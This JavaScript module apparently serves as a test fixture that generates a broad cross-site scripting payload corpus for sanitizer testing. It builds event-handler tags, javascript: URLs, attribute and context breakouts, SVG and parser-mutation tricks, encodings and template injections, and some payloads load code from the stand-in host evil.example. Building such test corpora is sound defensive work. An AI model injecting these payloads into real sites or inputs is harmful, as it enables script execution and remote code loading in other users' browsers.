/**
 * Texts that would run, or become elements, wherever text is taken for anything but text. Made from families: each names a way in, and what
 * is done there is `struck()`, which every page of the tests hears, or an alert. No list is copied; a new way in is one more line.
 */
const strike = "struck()";

const pairs = (as, bs, make) => as.flatMap(a => bs.map(b => make(a, b)));

/** Elements with an event of their own: the tag, what makes the event come by itself. */
const selfStarting = [
  ["img src=x", "onerror"], ["svg", "onload"], ["body", "onload"], ["video src=x", "onerror"], ["audio src=x", "onerror"], ["input autofocus", "onfocus"], ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"], ["details open", "ontoggle"], ["marquee", "onstart"], ["iframe", "onload"], ["object data=x", "onerror"], ["embed src=x", "onload"], ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"], ["script src=x", "onerror"], ["a autofocus tabindex=1", "onfocus"], ["p style=animation:x", "onanimationstart"], ["b tabindex=1 id=x", "onfocus"], ["math tabindex=1", "onfocus"],
];
const shortTags = ["a", "b", "i", "p", "s", "u", "q", "x", "em", "li", "td", "svg", "img", "div", "dl", "ol", "hr", "bdi"];
const events = [
  "onclick", "onload", "onerror", "onfocus", "onblur", "oninput", "onkeyup", "onwheel", "ondrag", "ondrop", "oncopy", "oncut", "onpaste", "onplay", "onhide", "onend", "onbegin", "onscroll", "onresize", "onselect",
  "onsubmit", "onreset", "ontoggle", "onpause", "onabort", "onclose", "onended", "onseeked", "onmousedown", "onmouseup",
];

const families = {
  elements: () => pairs(selfStarting, [" ", "/", "\t", "\n"], ([tag, event], gap) => `<${tag}${gap}${event}=${strike}>`),
  handlers: () => pairs(shortTags, events, (tag, event) => `<${tag} ${event}=${strike}>`),
  scripts: () => pairs(["script", "ScRiPt", "script ", "script/x", "script\t", "svg:script"], [strike, `/**/${strike}//`, "alert(1)", "import('//evil.example/x')"], (tag, what) => `<${tag}>${what}</${tag.trim()}>`),
  sources: () => pairs(["script src", "iframe src", "embed src", "object data", "img src", "link rel=import href", "base href", "form><button formaction", "meta http-equiv=refresh content=0;url", "svg><use href", "frame src", "video poster"],
    ["//evil.example/x", "https:evil.example", "/\\evil.example", "data:text/html,<script>struck()</script>"], (tag, from) => `<${tag}="${from}">`),
  addresses: () => pairs(["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "javascript&colon;", "&#106;avascript:", "&#x6a;avascript:", " javascript:", "vbscript:", "data:text/html;base64,", "feed:javascript:", "view-source:javascript:"],
    [(x) => x + strike, x => `<a href="${x}${strike}">tap</a>`, x => `<iframe src="${x}${strike}">`, x => `<form action="${x}${strike}"><button>ok</button></form>`], (scheme, make) => make(scheme)),
  attributes: () => pairs(["\"", "'", "`", "\\\"", "\\'", "&quot;", "&#34;", "\">", "'>", "` ", "\"/>", "' x='"], [`onmouseover=${strike} x=`, `autofocus onfocus=${strike} `, `style=animation:x onanimationend=${strike} `, `><img src=x onerror=${strike}>`, `accesskey=x onclick=${strike} `], (out, then) => `${out} ${then}${out}`),
  leaving: () => pairs(["</script>", "</style>", "</textarea>", "</title>", "</noscript>", "</template>", "</bdi></p>", "</svg>", "</math>", "</select>", "-->", "--!>", "]]>", "</iframe>", "</xmp>", "</plaintext>", "</button></form>", "</table>", "</li></ul>", "*/"],
    ["<svg onload=struck()>", "<script>struck()</script>", "<img src=x onerror=struck()>"], (end, then) => end + then),
  scriptStrings: () => pairs(["\";", "';", "`;", "\\\";", "\\';", "\u2028", "\u2029", "${", "\"+", "'+", "</script><script>", "*/", "\n", "});", "]);"], [`${strike}//`, `alert(1)//`, `top.${strike};/*`], (out, then) => out + then),
  styles: () => pairs(["<style>", "\"style=\"", "}", ";", "/*", "*/}"], ["*{background:url(//evil.example)}", "@import'//evil.example/x';", "x:expression(struck())", "background:url(javascript:struck())", "-moz-binding:url(//evil.example/x)", "*{display:none}", "behavior:url(x.htc)"], (out, then) => out + then),
  drawings: () => ["svg", "math", "svg/onload=''"].flatMap(root => [
    `<${root}><script>${strike}</script>`, `<${root}><a xlink:href=javascript:${strike}><text y=9>x`, `<${root}><animate onbegin=${strike} attributeName=x>`, `<${root}><set onbegin=${strike} attributeName=x>`,
    `<${root}><foreignObject><iframe onload=${strike}>`, `<${root}><use href=data:image/svg+xml,<svg/onload=${strike}>#x>`, `<${root}><image href=x onerror=${strike}>`, `<${root}><style><img src=x onerror=${strike}>`,
    `<${root}><desc><img src=x onerror=${strike}>`, `<${root}><title><img src=x onerror=${strike}>`, `<${root}><maction actiontype=statusline xlink:href=javascript:${strike}>x`, `<${root}><handler type=text/javascript>${strike}`,
    `<${root}><discard onbegin=${strike}>`, `<${root}><a><animate attributeName=href values=javascript:${strike} /><text y=9>x`,
  ]),
  mutations: () => pairs(["<math><mtext><table><mglyph><style>", "<svg></p><style><a id=\"</style>", "<noscript><p title=\"</noscript>", "<form><math><mtext></form><form><mglyph><style></math>", "<listing>&lt;", "<xmp><p title=\"</xmp>", "<template><style></template>", "<table><td><select><table>", "<p><svg><p title=\"</svg>", "<math><annotation-xml encoding=text/html>", "<svg><![CDATA[><", "<!--><", "<?xml><", "<a/`<", "<option><style></option></select>"],
    ["<img src=x onerror=struck()>", "<svg onload=struck()>", "<script>struck()</script>"], (shell, then) => shell + then),
  encodings: () => ["<img src=x onerror=struck()>", "<svg onload=struck()>", "<script>struck()</script>", "\"><b onclick=struck()>"].flatMap(x => [
    encodeURIComponent(x), encodeURIComponent(encodeURIComponent(x)), x.replace(/[<>"]/g, c => `&#${c.charCodeAt(0)};`), x.replace(/[<>"]/g, c => `&#x${c.charCodeAt(0).toString(16)}`), x.replace(/[<>"]/g, c => `&#0000${c.charCodeAt(0)}`),
    x.replaceAll("<", "&lt;").replaceAll(">", "&gt;"), x.replaceAll("<", "&amp;lt;"), x.replace(/[<>"]/g, c => `\\u00${c.charCodeAt(0).toString(16)}`), x.replace(/[<>"]/g, c => `\\x${c.charCodeAt(0).toString(16)}`), x.replace(/[<>"]/g, c => `\\${c.charCodeAt(0).toString(8)}`),
    Buffer.from(x).toString("base64"), x.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"), x.replace(/[<>]/g, c => `%u00${c.charCodeAt(0).toString(16)}`), `<![CDATA[${x}]]>`, `data:text/html,${x}`,
  ]),
  signs: () => pairs(["img src=x onerror", "svg onload", "script x"], [
    ["＜", "＞"], ["﹤", "﹥"], ["‹", "›"], ["〈", "〉"], ["ʺ><", ">"], ["\u200b<", "\u200b>"], ["<\u200b", ">"], ["\ufeff<", ">"], ["\u202e<", ">"], ["\u2066<", ">\u2069"], ["<\u00a0", ">"], ["<\u0301", ">"], ["\u226e", "\u226f"], ["<\u3000", ">"], ["<\u00ad", ">"], ["<\u034f", ">"], ["<\u{e0073}", ">"], ["ſ<", ">"],
  ], (tag, [open, close]) => `${open}${tag}=${strike}${close}`),
  templates: () => pairs(["{{", "${", "#{", "<%=", "{%", "@{", "[[", "{{{", "$(", "*{", "~{", "{$", "<#", "<?="], ["constructor.constructor('struck()')()", "this.constructor.constructor('struck()')()", "struck()", "__proto__.x=struck"], (open, what) => open + what + ({ "{{": "}}", "${": "}", "#{": "}", "<%=": "%>", "{%": "%}", "@{": "}", "[[": "]]", "{{{": "}}}", "$(": ")", "*{": "}", "~{": "}", "{$": "}", "<#": "#>", "<?=": "?>" })[open]),
  markups: () => ["[x](javascript:struck())", "![x](//evil.example/x.png)", "![x](x\"onerror=\"struck())", "<javascript:struck()>", "[x]: javascript:struck()", "**<svg onload=struck()>**", "```<svg onload=struck()>", "#link(\"javascript:struck()\")[x]", "\\href{javascript:struck()}{x}", "[url=javascript:struck()]x[/url]", "//evil.example/x.js"],
  manyInOne: () => pairs(["jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=struck() )//", "'\">-->*/</style></title></textarea></script>", "`${\"'><!--"], ["<svg/onload=struck()>", "<script>struck()</script>", "<img/src/onerror=struck()>", "//</stYle/<sVg/oNloAd=struck()//>"], (many, then) => many + then),
};

const all = [...new Set(Object.values(families).flatMap(make => make()))];

/** Every family, the handlers last. */
export const payloads = all;

/** The payloads of at most so many characters; each limit still leaves hundreds. */
export const within = most => all.filter(x => [...x].length <= most);

/** So many of them, from all families alike; with another turn others of each. */
export const spread = (list, many, turn = 0) => list.filter((_, n) => ((n + turn) * many) % list.length < many);

/** As many of them in one text as it may hold, one behind the other: every payload is there, and few texts are needed. */
export function packed(texts, most) {
  const packs = [];
  let long = Infinity;
  for (const x of texts.filter(x => [...x].length <= most)) {
    const length = [...x].length + 1;
    if (long + length > most) {
      packs.push(x);
      long = length - 1;
    } else {
      packs.push(`${packs.pop()} ${x}`);
      long += length;
    }
  }
  return packs;
}

/** The same text without anything that a parser could take for more: as long, broken at the same places. */
export const harmless = text => text.replace(/[^\s\p{L}\p{N}\p{M}\p{Cf}]/gu, "x").replaceAll("struck", "spoken");
